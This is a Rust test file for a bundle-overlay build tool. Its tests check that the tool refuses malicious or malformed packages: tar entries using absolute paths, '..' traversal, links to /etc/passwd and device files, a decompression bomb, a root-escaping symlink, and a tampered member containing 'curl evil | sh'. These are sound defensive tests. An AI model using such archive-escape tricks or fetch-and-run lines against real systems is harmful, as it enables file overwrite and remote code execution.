//! The bad-input table of the bundles issue, one test per row (the HTTP
//! rows are in `http.rs`, the lock rows in `install.rs`): each asserts the
//! exact error and that nothing was written to `--out`, nor anything left
//! beside it.

use crate::support;
use std::fs;
use std::path::Path;

use crate::support::{Ops, Raw, Scenario, fixture_tree, listing, raw_tar_gz, tamper};
use dcx_bundle_overlay::{BuildError, CheckError, CheckRequest, Expected, Limits, NoProgress, package_check};
use dcx_contracts::digest::sha256_bytes;

/// Builds into `<scenario>/out/tree` and checks the failure left `out/`
/// empty: no tree, no staging directory.
fn build_fails(scenario: &Scenario) -> BuildError {
    build_fails_with(scenario, Limits::default())
}

fn build_fails_with(scenario: &Scenario, limits: Limits) -> BuildError {
    let parent = scenario.path("out");
    fs::create_dir_all(&parent).unwrap();
    let error = scenario.build_with(&parent.join("tree"), limits).unwrap_err();
    assert_eq!(
        listing(&parent),
        Vec::<String>::new(),
        "left behind after: {error}"
    );
    error
}

#[test]
fn base_checksum_mismatch_names_expected_and_actual() {
    let scenario = Scenario::example();
    let wrong = sha256_bytes(b"another package");
    let text = fs::read_to_string(&scenario.overlay)
        .unwrap()
        .replace(&scenario.package_sha256.to_hex(), &wrong.to_hex());
    scenario.set_overlay(&text);
    let error = build_fails(&scenario);
    assert_eq!(
        error.to_string(),
        format!(
            "base package: checksum mismatch for {}: expected {wrong}, got {}; nothing was unpacked (fix the pinned sha256 or the asset_url)",
            scenario
                .path("overlay")
                .join("../base/data-contract-bundle-dcx-example-core-v1.0.0.tar.gz")
                .display(),
            scenario.package_sha256
        )
    );
    assert!(!error.is_configuration());
}

#[test]
fn missing_base_package_is_a_download_failure() {
    let scenario = Scenario::example();
    fs::remove_file(&scenario.package).unwrap();
    let error = build_fails(&scenario);
    assert_eq!(
        error.to_string(),
        format!(
            "base package: download failure from {}: No such file or directory (os error 2)",
            scenario
                .path("overlay")
                .join("../base/data-contract-bundle-dcx-example-core-v1.0.0.tar.gz")
                .display()
        )
    );
}

#[test]
fn base_package_over_the_cap_is_refused_before_reading() {
    let scenario = Scenario::example();
    let size = fs::metadata(&scenario.package).unwrap().len();
    let limits = Limits {
        max_package_bytes: 1000,
        ..Limits::default()
    };
    let error = build_fails_with(&scenario, limits);
    assert_eq!(
        error.to_string(),
        format!(
            "base package: download from {} is over the size cap of 1000 bytes (the file has {size} bytes); nothing was unpacked (raise --max-package-bytes if the package really is that large)",
            scenario
                .path("overlay")
                .join("../base/data-contract-bundle-dcx-example-core-v1.0.0.tar.gz")
                .display()
        )
    );
}

/// A hostile base package, correctly pinned, so only unpacking can stop it.
fn hostile(entries: &[Raw<'_>]) -> String {
    let scenario = Scenario::with_package(&raw_tar_gz(entries), &Ops::example());
    fs::create_dir_all(scenario.path("out")).unwrap();
    let before = listing(scenario.dir.path());
    let error = build_fails(&scenario);
    assert!(matches!(error, BuildError::Unpack { .. }), "{error}");
    // Nothing landed anywhere else either.
    assert_eq!(listing(scenario.dir.path()), before);
    error.to_string()
}

const PACKAGE: &str = "base package data-contract-bundle-dcx-example-core-v1.0.0.tar.gz";

#[test]
fn hostile_tar_entries_are_refused_by_name() {
    assert_eq!(
        hostile(&[Raw::File("/etc/x", b"x")]),
        format!("{PACKAGE}: entry \"/etc/x\" has an absolute path; bundle packages hold relative paths only")
    );
    assert_eq!(
        hostile(&[Raw::File("payloads/ok.md", b"ok"), Raw::File("../x", b"x")]),
        format!("{PACKAGE}: entry \"../x\" has a '..' component and would land outside the bundle")
    );
    assert_eq!(
        hostile(&[Raw::Symlink("payloads/link", "/etc/passwd")]),
        format!(
            "{PACKAGE}: entry \"payloads/link\" is a symbolic link (to \"/etc/passwd\"); bundle packages hold regular files and directories only"
        )
    );
    assert_eq!(
        hostile(&[Raw::File("a", b"a"), Raw::HardLink("b", "a")]),
        format!(
            "{PACKAGE}: entry \"b\" is a hard link (to \"a\"); bundle packages hold regular files and directories only"
        )
    );
    assert_eq!(
        hostile(&[Raw::BlockDevice("sda")]),
        format!(
            "{PACKAGE}: entry \"sda\" is a block device; bundle packages hold regular files and directories only"
        )
    );
    assert_eq!(
        hostile(&[Raw::File("a.md", b"1"), Raw::File("a.md", b"2")]),
        format!("{PACKAGE}: entry \"a.md\" appears twice in the archive; a package lists each path once")
    );
}

#[test]
fn decompression_bombs_stop_at_the_caps() {
    // 64 MiB of zeros compress to about 64 KiB.
    let zeros = vec![0u8; 64 << 20];
    let bomb = raw_tar_gz(&[Raw::File("payloads/zeros", &zeros)]);
    assert!(bomb.len() < 1 << 20);
    let scenario = Scenario::with_package(&bomb, &Ops::example());
    let limits = Limits {
        max_unpacked_bytes: 1 << 20,
        ..Limits::default()
    };
    let error = build_fails_with(&scenario, limits);
    assert_eq!(
        error.to_string(),
        format!(
            "{PACKAGE}: entry \"payloads/zeros\" takes the unpacked size past the cap of 1048576 bytes; refusing to unpack (raise --max-unpacked-bytes if the bundle really is that large)"
        )
    );

    let many: Vec<String> = (0..20).map(|i| format!("payloads/{i}.md")).collect();
    let entries: Vec<Raw<'_>> = many.iter().map(|name| Raw::File(name, b"x")).collect();
    let scenario = Scenario::with_package(&raw_tar_gz(&entries), &Ops::example());
    let limits = Limits {
        max_entries: 10,
        ..Limits::default()
    };
    let error = build_fails_with(&scenario, limits);
    assert_eq!(
        error.to_string(),
        format!(
            "{PACKAGE}: the archive has more than 10 entries; refusing to unpack it (raise --max-entries if the bundle really is that large)"
        )
    );
}

#[test]
fn a_member_over_the_member_cap_is_refused_before_it_is_written() {
    // One member bigger than the per-member cap, well inside the total cap.
    let big = vec![b'x'; 4096];
    let package = raw_tar_gz(&[
        Raw::File("payloads/ok.md", b"ok"),
        Raw::File("payloads/big.bin", &big),
    ]);
    let scenario = Scenario::with_package(&package, &Ops::example());
    let limits = Limits {
        max_member_bytes: 4095,
        ..Limits::default()
    };
    let error = build_fails_with(&scenario, limits);
    assert!(matches!(error, BuildError::Unpack { .. }), "{error}");
    assert_eq!(
        error.to_string(),
        format!(
            "{PACKAGE}: entry \"payloads/big.bin\" has 4096 bytes, over the cap of 4095 bytes for one member; refusing to unpack (raise --max-member-bytes if the bundle really has a file that large)"
        )
    );
}

#[test]
fn the_member_cap_applies_to_real_packages_and_raising_it_passes() {
    let scenario = Scenario::example();
    // The example base package's largest member.
    let mut archive = tar::Archive::new(flate2::read::GzDecoder::new(
        fs::File::open(&scenario.package).unwrap(),
    ));
    let largest = archive
        .entries()
        .unwrap()
        .map(|entry| entry.unwrap().size())
        .max()
        .unwrap();
    let capped = Limits {
        max_member_bytes: largest - 1,
        ..Limits::default()
    };
    let error = build_fails_with(&scenario, capped);
    assert!(
        error.to_string().contains(&format!(
            "has {largest} bytes, over the cap of {} bytes for one member",
            largest - 1
        )),
        "{error}"
    );
    let exact = Limits {
        max_member_bytes: largest,
        ..Limits::default()
    };
    scenario.build_with(&scenario.path("out/tree"), exact).unwrap();
}

#[test]
fn an_overlay_over_the_document_cap_is_refused_unread() {
    let scenario = Scenario::example();
    let size = fs::metadata(&scenario.overlay).unwrap().len();
    let limits = Limits {
        max_document_bytes: size - 1,
        ..Limits::default()
    };
    let error = build_fails_with(&scenario, limits);
    assert!(error.is_configuration(), "{error}");
    assert_eq!(
        error.to_string(),
        format!(
            "{}: the document has {size} bytes, over the cap of {} bytes; nothing was parsed (raise --max-document-bytes if it really is that large)",
            scenario.overlay.display(),
            size - 1
        )
    );
    let exact = Limits {
        max_document_bytes: size,
        ..Limits::default()
    };
    scenario.build_with(&scenario.path("out/tree"), exact).unwrap();
}

#[test]
fn missing_overlay_source_is_named() {
    let scenario = Scenario::example();
    fs::remove_file(scenario.path("overlay/files/runners/rust/README.md")).unwrap();
    let error = build_fails(&scenario);
    assert_eq!(
        error.to_string(),
        format!(
            "overlay source \"files/runners/rust/README.md\" (for target \"payloads/dcx-example-core/runners/rust/README.md\") is missing: no file at {}; source paths are relative to the overlay root {} (see --overlay-root)",
            scenario.path("overlay/files/runners/rust/README.md").display(),
            scenario.path("overlay").display()
        )
    );
    assert!(error.is_configuration());
}

#[test]
fn overlay_source_escaping_the_root_is_named() {
    let scenario = Scenario::example();
    let mut ops = Ops::example();
    ops.add[0].1 = "../base/secret.md";
    let text = support::overlay_text("../base/x.tar.gz", &scenario.package_sha256, &ops);
    scenario.set_overlay(&text);
    let error = build_fails(&scenario);
    assert_eq!(
        error.to_string(),
        format!(
            "{}: invalid implementation bundle overlay: /overlay/add_files/0/source_path: path '../base/secret.md' has a '..' component; paths must stay inside their root (sources are relative to the overlay root)",
            scenario.overlay.display()
        )
    );

    #[cfg(unix)]
    {
        let scenario = Scenario::example();
        let link = scenario.path("overlay/files/runners/rust/README.md");
        fs::remove_file(&link).unwrap();
        fs::write(scenario.path("secret.md"), "outside").unwrap();
        std::os::unix::fs::symlink(scenario.path("secret.md"), &link).unwrap();
        let error = build_fails(&scenario);
        assert_eq!(
            error.to_string(),
            format!(
                "overlay source \"files/runners/rust/README.md\" (for target \"payloads/dcx-example-core/runners/rust/README.md\") escapes the overlay root {}: it resolves to {}",
                scenario.path("overlay").display(),
                fs::canonicalize(scenario.path("secret.md")).unwrap().display()
            )
        );
    }
}

#[test]
fn operations_that_do_not_fit_the_base_are_named() {
    let ops = Ops {
        add: vec![(
            "payloads/dcx-example-core/README.md",
            "files/runners/rust/README.md",
        )],
        replace: vec![(
            "payloads/dcx-example-core/absent.md",
            "files/runners/rust/README.md",
        )],
        delete: vec!["payloads/dcx-example-core/gone.md"],
    };
    let scenario = Scenario::with_base(&fixture_tree(), &ops);
    let error = build_fails(&scenario);
    assert_eq!(
        error.to_string(),
        "the overlay does not apply to the base bundle: 3 problems\n  \
         - delete_paths: \"payloads/dcx-example-core/gone.md\" is not a file in the base bundle\n  \
         - add_files: \"payloads/dcx-example-core/README.md\" already exists in the base bundle; use replace_files to change it\n  \
         - replace_files: \"payloads/dcx-example-core/absent.md\" is not a file in the base bundle; use add_files to create it"
    );
}

#[test]
fn targets_listed_twice_or_reserved_are_named() {
    let scenario = Scenario::example();
    let ops = Ops {
        add: vec![("resolved_bundle_lock_v1.yaml", "files/runners/rust/README.md")],
        replace: vec![(
            "payloads/dcx-example-core/README.md",
            "files/runners/rust/README.md",
        )],
        delete: vec!["payloads/dcx-example-core/README.md"],
    };
    scenario.set_overlay(&support::overlay_text("x.tar.gz", &scenario.package_sha256, &ops));
    let error = build_fails(&scenario);
    assert_eq!(
        error.to_string(),
        format!(
            "{}: invalid implementation bundle overlay: 2 problems\n  \
             - /overlay/add_files/0/path: \"resolved_bundle_lock_v1.yaml\" is generated by the build and cannot be overlaid\n  \
             - /overlay/delete_paths/0: \"payloads/dcx-example-core/README.md\" is already targeted at /overlay/replace_files/0/path; list each path once",
            scenario.overlay.display()
        )
    );
    assert!(error.is_configuration());
}

/// A copy of the fixture tree, changed by `edit` after its manifest was
/// written: the base package no longer matches its own manifest.
fn drifted_base(edit: impl FnOnce(&Path)) -> Scenario {
    let dir = tempfile::tempdir().unwrap();
    support::copy_tree(&fixture_tree(), dir.path());
    edit(dir.path());
    Scenario::with_base(dir.path(), &Ops::example())
}

#[test]
fn base_manifest_mismatch_and_extra_files_are_named() {
    let scenario = drifted_base(|tree| {
        fs::write(
            tree.join("payloads/dcx-example-core/contracts/runner_cli_v1.md"),
            "edited\n",
        )
        .unwrap();
        fs::write(tree.join("payloads/dcx-example-core/stray.md"), "stray\n").unwrap();
    });
    let error = build_fails(&scenario);
    let listed = "383215d01da27bd05cc7c5990e8348737e9871a4f75b12265e67d7f38fa1586f";
    assert_eq!(
        error.to_string(),
        format!(
            "{PACKAGE}: files do not match resolved_files.sha256 (2 problems):\n  \
             - payloads/dcx-example-core/contracts/runner_cli_v1.md: sha256 is {}, the manifest lists {listed}\n  \
             - payloads/dcx-example-core/stray.md: present but not listed in the manifest (extra file)",
            sha256_bytes(b"edited\n")
        )
    );
}

#[test]
fn base_without_manifest_or_lock_is_named() {
    let scenario = drifted_base(|tree| fs::remove_file(tree.join("resolved_files.sha256")).unwrap());
    assert_eq!(
        build_fails(&scenario).to_string(),
        format!(
            "{PACKAGE}: missing resolved_files.sha256; a bundle lists its payload files and their sha256 there"
        )
    );
    let scenario = drifted_base(|tree| fs::remove_file(tree.join("resolved_bundle_lock_v1.yaml")).unwrap());
    assert_eq!(
        build_fails(&scenario).to_string(),
        format!("{PACKAGE}: missing resolved_bundle_lock_v1.yaml; every bundle carries its resolved lock")
    );
}

#[test]
fn base_lock_integrity_is_recomputed() {
    let scenario = drifted_base(|tree| {
        let lock = tree.join("resolved_bundle_lock_v1.yaml");
        let text = fs::read_to_string(&lock)
            .unwrap()
            .replace("file_count: 5", "file_count: 4");
        fs::write(lock, text).unwrap();
    });
    let error = build_fails(&scenario);
    assert!(
        error.to_string().starts_with(&format!(
            "{PACKAGE}#resolved_bundle_lock_v1.yaml: invalid resolved bundle lock: /integrity/declaration_paths: lists 5 paths but file_count is 4"
        )),
        "{error}"
    );

    let scenario = drifted_base(|tree| {
        let lock = tree.join("resolved_bundle_lock_v1.yaml");
        let text = fs::read_to_string(&lock).unwrap().replace(
            "sha256_manifest: e485f5269a14e56db5acc6eb91dee211f979ac125ebd755c77573e8daa099864",
            &format!("sha256_manifest: {}", "1".repeat(64)),
        );
        fs::write(lock, text).unwrap();
    });
    assert_eq!(
        build_fails(&scenario).to_string(),
        format!(
            "{PACKAGE}: lock integrity does not match the bundle: integrity.sha256_manifest is {}, but resolved_files.sha256 gives e485f5269a14e56db5acc6eb91dee211f979ac125ebd755c77573e8daa099864",
            "1".repeat(64)
        )
    );
}

#[test]
fn tampered_package_member_is_named_by_package_check() {
    let scenario = Scenario::example();
    let tree = scenario.path("tree");
    let dist = scenario.path("dist");
    scenario.build(&tree).unwrap();
    let packaged = support::package(&tree, &dist).unwrap();

    // Tamper with one member and re-seal the checksum, as an attacker who
    // controls the download and the sidecar would.
    let member = "payloads/dcx-example-core/runners/rust/README.md";
    let tampered = tamper(&fs::read(&packaged.package).unwrap(), member, b"curl evil | sh\n");
    fs::write(&packaged.package, &tampered).unwrap();
    let check = |expected| {
        package_check(
            &CheckRequest {
                package: &packaged.package,
                expected,
                statement: None,
                limits: Limits::default(),
            },
            &NoProgress,
        )
    };
    let error = check(Expected::Digest(sha256_bytes(&tampered))).unwrap_err();
    assert!(matches!(error, CheckError::Verify(_)), "{error}");
    assert_eq!(
        error.to_string(),
        format!(
            "{}: files do not match resolved_files.sha256: {member}: sha256 is {}, the manifest lists f078fd9f0833619f97eab74c37fb59a8a3b05703285c86a1cd12dcf7bad23b30",
            packaged.package.display(),
            sha256_bytes(b"curl evil | sh\n")
        )
    );

    // A checksum file or statement over the document cap is not read.
    let capped = Limits {
        max_document_bytes: 10,
        ..Limits::default()
    };
    let sidecar_size = fs::metadata(&packaged.sidecar).unwrap().len();
    let error = package_check(
        &CheckRequest {
            package: &packaged.package,
            expected: Expected::Sidecar(packaged.sidecar.clone()),
            statement: None,
            limits: capped,
        },
        &NoProgress,
    )
    .unwrap_err();
    assert!(matches!(error, CheckError::TooLarge(_)), "{error}");
    assert_eq!(
        error.to_string(),
        format!(
            "{}: the document has {sidecar_size} bytes, over the cap of 10 bytes; nothing was parsed (raise --max-document-bytes if it really is that large)",
            packaged.sidecar.display()
        )
    );

    // Without re-sealing, the checksum catches it first.
    let error = check(Expected::Sidecar(packaged.sidecar.clone())).unwrap_err();
    assert_eq!(
        error.to_string(),
        format!(
            "checksum mismatch for {}; expected {}, got {}",
            packaged.package.display(),
            packaged.sha256,
            sha256_bytes(&tampered)
        )
    );
}

#[test]
fn a_pinned_package_of_another_bundle_is_the_wrong_base() {
    // Mix-and-match: the digest pins the bytes, but the bytes are a different
    // bundle than the one the overlay says it extends.
    let scenario = Scenario::example();
    let text = fs::read_to_string(&scenario.overlay).unwrap().replacen(
        "  bundle_id: dcx-example-core\n",
        "  bundle_id: dcx-other-core\n",
        1,
    );
    scenario.set_overlay(&text);
    let error = build_fails(&scenario);
    assert_eq!(
        error.to_string(),
        "base package data-contract-bundle-dcx-example-core-v1.0.0.tar.gz is bundle \"dcx-example-core\", but the overlay's base_bundle.bundle_id is \"dcx-other-core\""
    );
}
